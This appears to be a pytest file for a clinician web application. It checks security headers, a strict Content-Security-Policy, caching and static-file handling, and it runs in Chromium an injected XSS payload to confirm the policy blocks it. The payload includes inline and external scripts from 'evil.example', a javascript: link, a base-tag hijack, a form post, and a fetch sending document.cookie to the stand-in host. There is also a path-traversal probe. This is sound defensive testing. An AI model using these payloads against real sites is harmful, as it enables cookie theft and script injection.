"""The rules that every answer carries for browsers, and what Chromium makes of them when somebody has got markup onto a page after all."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from typing import Any, Final

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Browser as Chromium

from arbiter.identity.roles import Role
from arbiter.model import CaseId
from clinician_ui.pages import create_pages
from clinician_ui.rendering import SECURITY_HEADERS
from clinician_ui.routes import live
from tests.clinician_ui.attacks import addresses
from tests.clinician_ui.conftest import SPLIT, Ward
from tests.clinician_ui.visits import address, chromium, log_in, visit
from tests.houses import settle

__all__ = ["address", "chromium"]

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(180)]

PEOPLE: Final = {
    "clara": Role.SENIOR_ARBITER,
    "ada": Role.AUDITOR,
    "pia": Role.POLICY_APPROVER,
    "olga": Role.FLEET_OPERATOR,
    "adam": Role.ADMINISTRATOR,
    "rosa": Role.RECORDS_OFFICER,
}
POLICY: Final = {
    "default-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'self'",
    "frame-ancestors": "'none'",
    "object-src": "'none'",
}


@pytest_asyncio.fixture(scope="module", loop_scope="module", autouse=True)
async def people(ward: Ward) -> None:
    settings = ward.house.settings.model_copy(update={"teaching": True})
    ward.house = replace(ward.house, settings=settings)
    ward.pages = create_pages(ward.house)
    for login, role in PEOPLE.items():
        await ward.person(login, role)


@pytest.fixture(autouse=True)
def streams_end_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(live, "STREAM_SECONDS", 0.0)


async def decided(ward: Ward) -> CaseId:
    case = await ward.case(SPLIT)
    anna = await ward.claimed(case)
    await anna.opinion(case)
    await anna.send(f"/cases/{case}/reveal")
    assert (await anna.sign(case)).status_code == 303
    await settle(ward.house)
    return case


def guarded(answer: httpx.Response, *, kept: bool = False) -> httpx.Response:
    """An answer that carries each rule once, and is stored by nobody unless it is an asset."""
    where = f"{answer.request.method} {answer.request.url}: {answer.status_code}"
    for name, value in SECURITY_HEADERS.items():
        assert answer.headers.get_list(name) == [value], where
    if not kept:
        assert answer.headers.get_list("cache-control") == ["no-store"], where
    if "html" in answer.headers.get("content-type", ""):
        assert not re.search(
            r"<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=|<[^>]*\son[a-z]+=", answer.text
        ), where
        assert "javascript:" not in answer.text, where
    return answer


async def test_the_policy_is_as_strict_as_it_is_meant_to_be() -> None:
    said = dict(part.strip().split(" ", 1) for part in SECURITY_HEADERS["Content-Security-Policy"].split(";"))
    assert said == POLICY
    assert not re.search(r"unsafe|nonce|\*|data:|https?:", str(said))


@pytest.mark.parametrize("login", ["", "anna", "clara", "ada", "pia", "olga", "adam", "rosa"])
async def test_every_answer_to_anybody_carries_every_rule(ward: Ward, login: str) -> None:
    case = await decided(ward)
    browser = await ward.logged_in(login) if login else ward.browser()
    await browser.get("/account" if login else "/login")
    statuses = set()
    for method in ("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS"):
        for path in addresses(ward, "POST" if method == "POST" else "GET", case):
            if path == "/logout":
                continue
            answer = await (browser.send(path) if method == "POST" else browser.http.request(method, path))
            statuses.add(guarded(answer).status_code)
    assert {303, 405} <= statuses
    assert 500 not in statuses


async def test_so_do_a_table_an_export_and_the_answers_to_scripts(ward: Ward) -> None:
    case = await decided(ward)
    pia, ada = await ward.logged_in("pia"), await ward.logged_in("ada")
    table = guarded(await pia.get("/oversight/figures.csv?table=reasons"))
    assert table.headers["content-type"].startswith("text/csv")
    await ada.get("/audit/exports")
    await ada.send("/audit/exports", cases=case)
    await ward.exports_have_ended("ada")
    page = (await ada.get("/audit/exports")).text
    (export, *_) = re.findall(r"/audit/exports/(e_[a-z2-7]{24})/file", page)
    file = guarded(await ada.get(f"/audit/exports/{export}/file"))
    assert zipfile.ZipFile(io.BytesIO(file.content)).namelist()
    assert file.headers["content-disposition"].startswith("attachment")
    held = await ward.case()
    anna = await ward.claimed(held)
    kept = {"csrf_token": anna.token, "step": "opinion", "note": "x"}
    guarded(await anna.send_raw(f"/cases/{held}/draft", kept, X_Arbiter_Draft="1"))
    guarded(await anna.send("/account/passkeys/ask", name="x", password="wrong wrong wrong"))
    guarded(await anna.get("/worklist/list", HX_Request="true"))
    guarded(await ward.browser().get("/worklist/list", HX_Request="true"))


async def test_so_do_assets_and_what_is_no_asset(ward: Ward) -> None:
    browser = ward.browser()
    page = (await browser.get("/login")).text
    assets = re.findall(r'(?:href|src)="(/static/[^"]+)"', page)
    assert len(assets) > 2
    for path in assets:
        answer = guarded(await browser.get(path), kept=True)
        assert answer.status_code == 200
        again = {"If_None_Match": answer.headers["etag"]}
        assert guarded(await browser.get(path, **again), kept=True).status_code == 304
        guarded(await browser.get(path, Range="bytes=0-9"), kept=True)
        assert "set-cookie" not in answer.headers
    for path in ("/static/", "/static/nowhere", "/static/..%2f..%2fpages.py", "/nowhere", "/%00", "/v1"):
        assert guarded(await browser.get(path), kept=True).status_code in {404, 405}, path


async def test_a_page_is_the_same_to_whoever_asks_whether_it_has_changed(ward: Ward) -> None:
    case = await decided(ward)
    anna = await ward.logged_in()
    for path in addresses(ward, "GET", case):
        answer = await anna.get(path)
        assert not {"etag", "last-modified", "age", "expires"} & set(answer.headers), path
        asked = {
            "If_None_Match": "*",
            "If_Modified_Since": "Fri, 31 Dec 2100 00:00:00 GMT",
            "Range": "bytes=0-1",
        }
        assert (await anna.get(path, **asked)).status_code == answer.status_code, path


# --- in a browser ----------------------------------------------------------------------------------------------------

_INJECTED: Final = """async () => {
    const told = [], wait = () => new Promise((done) => setTimeout(done, 50));
    document.addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
    const put = (name, values) => {
        const made = Object.assign(document.createElement(name), values);
        document.body.append(made);
        return made;
    };
    window.ran = [];
    put("script", {textContent: "ran.push('inline')"});
    put("script", {src: "https://evil.example/x.js"});
    put("script", {src: "data:text/javascript,ran.push('data')"});
    put("style", {textContent: "body { display: none }"});
    put("img", {src: "https://evil.example/pixel"});
    put("iframe", {src: "https://evil.example/"});
    put("iframe", {srcdoc: "<script>parent.ran.push('srcdoc')</script>"});
    put("object", {data: "/favicon.svg"});
    put("base", {href: "https://evil.example/"});
    put("div", {innerHTML: "<a id=link href=\\"javascript:ran.push('link')\\">x</a><p style='display:none' onclick='ran.push(1)'>x</p>"});
    document.querySelector("#link").click();
    document.querySelector("p[onclick]").click();
    setTimeout("ran.push('eval')", 0);
    try { await fetch("https://evil.example/?" + document.cookie); } catch { told.push("fetch"); }
    try { new WebSocket("wss://evil.example/"); } catch { told.push("socket"); }
    const form = put("form", {action: "https://evil.example/", method: "post"});
    form.submit();
    for (let n = 0; n < 40; n += 1) await wait();
    return {told: [...new Set(told)].sort(), ran, base: document.baseURI, shown: getComputedStyle(document.body).display,
        cookie: document.cookie};
}"""


async def test_markup_that_got_onto_a_page_after_all_runs_nothing_and_reaches_nobody(
    ward: Ward, address: str, chromium: Chromium
) -> None:
    await ward.case()
    async with visit(chromium, address) as visited:
        await log_in(visited)
        found: dict[str, Any] = await visited.page.evaluate(_INJECTED)
        # Each refusal is a complaint in the console, and meant to be.
        said, visited.complaints[:] = " ".join(visited.complaints), []
    assert found["ran"] == []
    assert found["cookie"] == ""
    assert found["base"].startswith(address)
    assert found["shown"] != "none"
    refused = {"script-src-elem", "script-src-attr", "style-src-elem", "img-src", "frame-src", "object-src"}
    assert refused | {"base-uri", "form-action", "connect-src", "script-src", "fetch"} <= set(
        found["told"]
    ), said
